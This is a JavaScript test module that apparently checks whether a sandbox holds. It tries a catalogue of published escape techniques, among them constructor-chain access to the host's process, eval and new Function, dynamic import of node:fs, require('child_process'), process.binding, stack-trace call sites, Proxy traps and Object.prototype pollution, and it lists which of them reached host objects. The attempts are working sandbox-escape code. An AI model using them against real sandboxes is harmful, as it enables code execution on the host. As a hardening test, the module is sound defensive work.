// Tries the published ways out of a sandbox and reports what each of them got. `loot` stays empty behind a wall that holds.
import { lookup } from 'host'

/** Whether this is something only the host has. */
function isLoot(thing) {
  if (thing === null || (typeof thing !== 'object' && typeof thing !== 'function')) return false
  return (
    typeof thing.pid === 'number' || typeof thing.binding === 'function' || typeof thing.readFileSync === 'function'
  )
}

/** The host's `process` by way of a function's constructor: the classic of them all. */
const throughConstructor = (thing) => thing.constructor.constructor('return process')()

function stackOverflow() {
  const dig = () => {
    dig.deeper = (dig.deeper ?? 0) + 1
    dig()
  }
  dig()
}

function thrownBy(attempt) {
  try {
    attempt()
  } catch (error) {
    return error
  }
  return undefined
}

const ATTEMPTS = {
  'this.constructor.constructor': () => throughConstructor(globalThis),
  'console.log.constructor': () => throughConstructor(console.log),
  'console.constructor.constructor': () => throughConstructor(console),
  'the constructor of a host function': () => throughConstructor(lookup),
  'the promise a host function returns': () => throughConstructor(lookup('x')),
  'an error thrown by the host': async () => throughConstructor(await lookup(Symbol.iterator).catch((error) => error)),
  'an error of the engine (stack overflow)': () => throughConstructor(thrownBy(stackOverflow)),
  eval: () => (0, eval)('process'),
  'new Function': () => new Function('return process')(),
  'async Function': async () => (async () => {}).constructor('return process')(),
  'generator Function': () => function* () {}.constructor('yield process')().next().value,
  'import("node:fs")': async () => await import('node:fs'),
  'import(...).constructor of its rejection': async () => throughConstructor(await import('node:fs').catch((e) => e)),
  'require("child_process")': () => require('child_process'),
  'process.binding': () => process.binding('spawn_sync'),
  'process.mainModule.require': () => process.mainModule.require('fs'),
  'arguments.callee.caller': () => throughConstructor(Function.prototype.caller),
  'Error.prepareStackTrace call sites': () => {
    Error.prepareStackTrace = (_error, sites) => sites.map((site) => site.getThis?.() ?? site.getFunction?.())
    const found = new Error('sites').stack
    delete Error.prepareStackTrace
    return Array.isArray(found) ? found.find(isLoot) : undefined
  },
  'a proxy handed to console.log': () => {
    let caught
    const trap = {
      get: (_target, _key, receiver) => void (caught = receiver),
      apply: (_t, self) => void (caught = self),
    }
    console.log(new Proxy(() => {}, trap))
    return caught === undefined ? undefined : throughConstructor(caught)
  },
  'Object.prototype pollution': async () => {
    let caught
    Object.defineProperty(Object.prototype, 'then', {
      configurable: true,
      get() {
        caught = this
        return undefined
      },
    })
    await lookup('x').catch(() => undefined)
    delete Object.prototype.then
    return caught === undefined ? undefined : throughConstructor(caught)
  },
  'globalThis.__proto__ of a foreign realm': () => throughConstructor(Object.getPrototypeOf(globalThis)),
  WebAssembly: () => throughConstructor(WebAssembly.Module),
  'SharedArrayBuffer and Atomics.wait': () =>
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1) && undefined,
}

export default async function escape() {
  const loot = []
  const told = {}
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    try {
      const got = await attempt()
      if (isLoot(got)) loot.push(name)
      told[name] = typeof got
    } catch (error) {
      told[name] = `${error.name}: ${error.message}`.slice(0, 80)
    }
  }
  return { tried: Object.keys(ATTEMPTS).length, loot, told }
}
